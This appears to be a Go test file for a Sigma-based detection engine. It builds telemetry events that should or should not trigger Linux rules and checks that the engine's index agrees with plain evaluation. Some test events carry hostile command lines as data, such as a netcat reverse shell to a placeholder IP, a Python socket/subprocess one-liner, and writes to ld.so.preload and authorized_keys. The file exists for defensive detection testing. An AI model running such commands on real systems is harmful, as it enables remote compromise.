package detect

import (
	"fmt"
	"math/rand/v2"
	"os"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/vigilsec/vigil/core/telemetry"
)

const sigmaHQDir = "../../../../rules/sigma/sigmahq"

// loadAll loads the SigmaHQ Linux rules and the package's test rules.
func loadAll(tb testing.TB) []*Rule {
	tb.Helper()
	hq, err := LoadWithOptions(os.DirFS(sigmaHQDir), Options{LinkBase: SigmaHQLinkBase})
	if err != nil {
		tb.Fatal(err)
	}
	local, err := Load(os.DirFS("testdata/rules"))
	if err != nil {
		tb.Fatal(err)
	}
	if len(local.Problems) > 0 {
		tb.Fatalf("test rules: %v", local.Problems)
	}
	return append(append([]*Rule(nil), hq.Rules...), local.Rules...)
}

func ids(ms []Match) []string {
	out := make([]string, 0, len(ms))
	for _, m := range ms {
		out = append(out, m.Rule.ID)
	}
	return out
}

// plainBySource evaluates every rule of the event's logsource with sigma-go.
func plainBySource(bySrc map[telemetry.Logsource][]*Rule, ev *telemetry.Event) []string {
	var out []string
	for _, r := range bySrc[ev.Source] {
		if ok, _ := r.evaluate(ev); ok {
			out = append(out, r.ID)
		}
	}
	return out
}

// plainAll evaluates every rule (Rule.Matches checks the logsource).
func plainAll(rules []*Rule, ev *telemetry.Event) []string {
	var out []string
	for _, r := range rules {
		if r.Matches(ev) {
			out = append(out, r.ID)
		}
	}
	return out
}

func bySource(rules []*Rule) map[telemetry.Logsource][]*Rule {
	m := map[telemetry.Logsource][]*Rule{}
	for _, r := range rules {
		m[r.Logsource] = append(m[r.Logsource], r)
	}
	return m
}

func ev(src telemetry.Logsource, kv ...any) *telemetry.Event {
	f := map[string]any{}
	for i := 0; i+1 < len(kv); i += 2 {
		f[kv[i].(string)] = kv[i+1]
	}
	return &telemetry.Event{Time: time.Unix(0, 0).UTC(), Host: "test", Source: src, Fields: f}
}

func ruleByTitle(rules []*Rule, title string) *Rule {
	for _, r := range rules {
		if r.Title == title {
			return r
		}
	}
	return nil
}

// TestEngineCraftedEvents checks that events built to trigger specific
// rules do, that benign look-alikes do not, and that the engine agrees with
// the plain loops on each.
func TestEngineCraftedEvents(t *testing.T) {
	rules := loadAll(t)
	e := NewEngine(rules)
	src := bySource(rules)
	tests := []struct {
		name    string
		ev      *telemetry.Event
		want    []string // titles that must match
		notWant []string // titles that must not match
	}{
		{"execve base64 -d", ev(telemetry.Auditd, "type", "EXECVE", "argc", "3", "a0", "base64", "a1", "-d", "a2", "/tmp/.x"),
			[]string{"Decode Base64 Encoded Text (test)"}, nil},
		{"execve base64 upper-case values", ev(telemetry.Auditd, "type", "execve", "a0", "BASE64", "a1", "-D"),
			[]string{"Decode Base64 Encoded Text (test)"}, nil},
		{"execve base64 encode is benign", ev(telemetry.Auditd, "type", "EXECVE", "a0", "base64", "a1", "/tmp/x"),
			nil, []string{"Decode Base64 Encoded Text (test)"}},
		{"path ld.so.preload", ev(telemetry.Auditd, "type", "PATH", "name", "/etc/ld.so.preload", "nametype", "NORMAL"),
			[]string{"Modification of ld.so.preload (test)"}, nil},
		{"process_creation crontab -l", ev(telemetry.ProcessCreation, "Image", "/usr/bin/crontab", "CommandLine", "/usr/bin/crontab -l", "User", "root"),
			[]string{"Crontab Enumeration"}, []string{"Anything But Root (test)"}},
		{"process_creation crontab list as []string", ev(telemetry.ProcessCreation, "Image", []string{"/bin/busybox", "/usr/bin/crontab"}, "CommandLine", "crontab -l", "User", "root"),
			[]string{"Crontab Enumeration"}, nil},
		{"getcap -r /", ev(telemetry.Auditd, "type", "EXECVE", "a0", "getcap", "a1", "-r", "a2", "/"),
			[]string{"Linux Capabilities Discovery"}, nil},
		{"shell profile wildcard", ev(telemetry.Auditd, "type", "PATH", "name", "/home/bob/.bashrc"),
			[]string{"Unix Shell Configuration Modification"}, nil},
		{"shell profile wildcard no match", ev(telemetry.Auditd, "type", "PATH", "name", "/home/bob/.bashrc.bak"),
			nil, []string{"Unix Shell Configuration Modification"}},
		{"cron file created", ev(telemetry.FileEvent, "TargetFilename", "/etc/cron.d/evil", "Image", "/usr/bin/cp"),
			[]string{"New Cron File Created"}, nil},
		{"wildcard ? and escaped *", ev(telemetry.FileEvent, "TargetFilename", "/etc/literal*star", "Image", "/usr/bin/touch"),
			[]string{"Wildcards (test)"}, nil},
		{"escaped * is literal", ev(telemetry.FileEvent, "TargetFilename", "/etc/literalXstar", "Image", "/usr/bin/touch"),
			nil, []string{"Wildcards (test)"}},
		{"wildcard authorized_keys", ev(telemetry.FileEvent, "TargetFilename", "/HOME/alice/.ssh/AUTHORIZED_KEYS", "Image", "/usr/bin/vi"),
			[]string{"Wildcards (test)"}, nil},
		{"not at top matches non-root", ev(telemetry.ProcessCreation, "Image", "/usr/bin/ls", "CommandLine", "ls", "User", "alice"),
			[]string{"Anything But Root (test)"}, nil},
		{"not at top, missing field", ev(telemetry.ProcessCreation, "Image", "/usr/bin/ls"),
			[]string{"Anything But Root (test)"}, nil},
		{"contains all", ev(telemetry.ProcessCreation, "Image", "/usr/bin/python3", "CommandLine", "python3 -c 'import socket,subprocess'", "User", "root"),
			[]string{"One Of Them (test)"}, nil},
		{"contains all incomplete", ev(telemetry.ProcessCreation, "Image", "/usr/bin/python3", "CommandLine", "python3 -c 'import socket'", "User", "root"),
			nil, []string{"One Of Them (test)"}},
		{"all of them", ev(telemetry.ProcessCreation, "Image", "/usr/bin/curl", "CommandLine", "curl http://x", "User", "root"),
			[]string{"All Of Them (test)"}, nil},
		{"regex only", ev(telemetry.ProcessCreation, "Image", "/usr/bin/nc", "CommandLine", "nc -e /bin/sh 1.2.3.4 4444", "User", "root"),
			[]string{"Regex Only (test)", "One Of Them (test)"}, nil},
		{"numbers and not", ev(telemetry.Auditd, "type", "SYSCALL", "euid", "0", "auid", "4294967295", "exe", "/usr/bin/python3"),
			[]string{"Numbers And Not (test)"}, nil},
		{"numbers and not, filtered", ev(telemetry.Auditd, "type", "SYSCALL", "euid", "0", "auid", "4294967295", "exe", "/usr/lib/systemd/systemd"),
			nil, []string{"Numbers And Not (test)"}},
		{"base64 modifier", ev(telemetry.ProcessCreation, "CommandLine", "echo Y3VybA== | base64 -d", "User", "root"),
			[]string{"Base64 And Cidr (test)"}, nil},
		{"missing field compares as <nil>", ev(telemetry.ProcessCreation, "Image", "/usr/bin/true", "User", "root"),
			[]string{"Base64 And Cidr (test)"}, nil},
		{"empty value", ev(telemetry.Auditd, "type", "CWD", "cwd", ""),
			[]string{"Empty And Case (test)"}, nil},
		{"case-insensitive exact", ev(telemetry.Auditd, "type", "SYSCALL", "comm", "kworker"),
			[]string{"Empty And Case (test)"}, nil},
		{"unicode contains", ev(telemetry.Auditd, "type", "SYSCALL", "exe", "/opt/STRASSE/straße/bin"),
			[]string{"Empty And Case (test)"}, nil},
		{"unicode fold", ev(telemetry.Auditd, "type", "SYSCALL", "exe", "/opt/Ḱ"),
			[]string{"Empty And Case (test)"}, nil},
		{"unknown logsource", ev(telemetry.Logsource{Product: "linux", Category: "network_connection"}, "Image", "/usr/bin/nc"),
			nil, nil},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got := e.Match(tt.ev)
			titles := map[string]bool{}
			for _, m := range got {
				titles[m.Rule.Title] = true
				for _, name := range m.Searches {
					if _, ok := m.Rule.Sigma.Detection.Searches[name]; !ok {
						t.Errorf("%s: Searches lists unknown search %q", m.Rule.Title, name)
					}
				}
				if !slices.IsSorted(m.Searches) {
					t.Errorf("%s: Searches not sorted: %v", m.Rule.Title, m.Searches)
				}
			}
			for _, w := range tt.want {
				if ruleByTitle(rules, w) == nil {
					t.Fatalf("no rule titled %q loaded", w)
				}
				if !titles[w] {
					t.Errorf("missing match %q; got %v", w, titles)
				}
			}
			for _, w := range tt.notWant {
				if titles[w] {
					t.Errorf("unexpected match %q", w)
				}
			}
			if a, b := ids(got), plainBySource(src, tt.ev); !slices.Equal(a, b) {
				t.Errorf("indexed %v != plain-by-source %v", a, b)
			}
			if a, b := ids(got), plainAll(rules, tt.ev); !slices.Equal(a, b) {
				t.Errorf("indexed %v != plain-all %v", a, b)
			}
		})
	}
}

// TestEngineEquivalenceCorpus compares the engine with both plain loops on
// the recorded corpus.
func TestEngineEquivalenceCorpus(t *testing.T) {
	rules := loadAll(t)
	e := NewEngine(rules)
	src := bySource(rules)
	evs := readEvents(t, eventsFile)
	if len(evs) < 2000 {
		t.Fatalf("corpus has %d events, want >= 2000", len(evs))
	}
	matched, hits := 0, 0
	for i, ev := range evs {
		got := ids(e.Match(ev))
		if want := plainBySource(src, ev); !slices.Equal(got, want) {
			t.Fatalf("event %d (%v): indexed %v != plain-by-source %v", i, ev.Fields, got, want)
		}
		if want := plainAll(rules, ev); !slices.Equal(got, want) {
			t.Fatalf("event %d: indexed %v != plain-all %v", i, got, want)
		}
		if len(got) > 0 {
			matched++
			hits += len(got)
		}
	}
	t.Logf("%d events, %d with matches, %d matches", len(evs), matched, hits)
	if matched == 0 || matched == len(evs) {
		t.Errorf("corpus should have both matching and benign events (%d of %d match)", matched, len(evs))
	}
}

// TestEngineEquivalenceSynthetic builds events from the rules' own values,
// mutated (case changes, surrounding text, truncation, list values,
// non-ASCII, missing fields), so that most rules are candidates and many
// match, and compares the engine with the plain loop.
func TestEngineEquivalenceSynthetic(t *testing.T) {
	rules := loadAll(t)
	e := NewEngine(rules)
	src := bySource(rules)
	rnd := rand.New(rand.NewPCG(1, 2))

	// Per logsource: field -> values seen in rules.
	vals := map[telemetry.Logsource]map[string][]string{}
	for _, r := range rules {
		m := vals[r.Logsource]
		if m == nil {
			m = map[string][]string{}
			vals[r.Logsource] = m
		}
		for _, s := range r.Sigma.Detection.Searches {
			for _, em := range s.EventMatchers {
				for _, fm := range em {
					for _, v := range fm.Values {
						if sv, ok := scalarString(v); ok {
							m[fm.Field] = append(m[fm.Field], strings.ReplaceAll(sv, "*", "x"))
						}
					}
				}
			}
		}
	}
	mutate := func(s string) string {
		switch rnd.IntN(9) {
		case 0:
			return strings.ToUpper(s)
		case 1:
			return "/usr/bin" + s
		case 2:
			return s + " --verbose"
		case 3:
			if len(s) > 1 {
				return s[:len(s)-1]
			}
		case 4:
			return "x" + s + "y"
		case 5:
			return s + "é"
		case 6:
			return ""
		}
		return s
	}
	// The logsources some rule has values for.
	var sources []telemetry.Logsource
	for _, ls := range SupportedLogsources {
		if len(vals[ls]) > 0 {
			sources = append(sources, ls)
		}
	}
	const n = 20000
	matched := 0
	for i := 0; i < n; i++ {
		ls := sources[rnd.IntN(len(sources))]
		fields := vals[ls]
		names := make([]string, 0, len(fields))
		for f := range fields {
			names = append(names, f)
		}
		slices.Sort(names)
		evf := map[string]any{}
		for k := 0; k < 1+rnd.IntN(5); k++ {
			f := names[rnd.IntN(len(names))]
			pick := func() string { return mutate(fields[f][rnd.IntN(len(fields[f]))]) }
			if rnd.IntN(6) == 0 {
				evf[f] = []string{pick(), pick()}
			} else if rnd.IntN(3) == 0 {
				evf[f] = pick() + " " + pick()
			} else {
				evf[f] = pick()
			}
		}
		ev := &telemetry.Event{Source: ls, Fields: evf}
		got := ids(e.Match(ev))
		if want := plainBySource(src, ev); !slices.Equal(got, want) {
			t.Fatalf("event %v: indexed %v != plain %v", evf, got, want)
		}
		if len(got) > 0 {
			matched++
		}
	}
	t.Logf("%d synthetic events, %d with matches", n, matched)
	if matched < n/20 {
		t.Errorf("only %d of %d synthetic events match: generator too weak", matched, n)
	}
}

// TestEngineUnmodelledValueType checks the fallback for field values that
// are neither string nor []string.
func TestEngineUnmodelledValueType(t *testing.T) {
	rules := loadAll(t)
	e := NewEngine(rules)
	evt := ev(telemetry.ProcessCreation, "Image", "/usr/bin/crontab", "CommandLine", "crontab -l", "User", 0)
	if got, want := ids(e.Match(evt)), plainAll(rules, evt); !slices.Equal(got, want) {
		t.Errorf("indexed %v != plain %v", got, want)
	}
}

// TestEngineStats checks that the SigmaHQ rules are mostly indexed.
func TestEngineStats(t *testing.T) {
	rs, err := Load(os.DirFS(sigmaHQDir))
	if err != nil {
		t.Fatal(err)
	}
	e := NewEngine(rs.Rules)
	total, always := 0, 0
	for _, s := range e.Stats() {
		t.Logf("%+v", s)
		total += s.Rules
		always += s.Always
		if s.Indexed+s.Always+s.Never != s.Rules {
			t.Errorf("%s: counts do not add up: %+v", s.Logsource, s)
		}
	}
	if total != len(rs.Rules) {
		t.Errorf("stats cover %d rules, loaded %d", total, len(rs.Rules))
	}
	if always*10 > total {
		t.Errorf("%d of %d rules are always evaluated; the index should cover at least 90%%", always, total)
	}
}

// TestMatchNoAllocs checks that a non-matching event costs no allocation.
func TestMatchNoAllocs(t *testing.T) {
	rs, err := Load(os.DirFS(sigmaHQDir))
	if err != nil {
		t.Fatal(err)
	}
	e := NewEngine(rs.Rules)
	evt := ev(telemetry.Auditd, "type", "CWD", "cwd", "/var/www")
	var dst []Match
	allocs := testing.AllocsPerRun(100, func() { dst = e.AppendMatches(dst[:0], evt) })
	if allocs > 0 {
		t.Errorf("AppendMatches on a benign event: %v allocs, want 0", allocs)
	}
}

// TestEngineConcurrent runs Match from several goroutines (go test -race).
func TestEngineConcurrent(t *testing.T) {
	rules := loadAll(t)
	e := NewEngine(rules)
	evs := readEvents(t, eventsFile)[:1000]
	want := make([][]string, len(evs))
	for i, ev := range evs {
		want[i] = ids(e.Match(ev))
	}
	done := make(chan error, 4)
	for g := 0; g < 4; g++ {
		go func() {
			for i, ev := range evs {
				if got := ids(e.Match(ev)); !slices.Equal(got, want[i]) {
					done <- fmt.Errorf("event %d: %v != %v", i, got, want[i])
					return
				}
			}
			done <- nil
		}()
	}
	for g := 0; g < 4; g++ {
		if err := <-done; err != nil {
			t.Error(err)
		}
	}
}
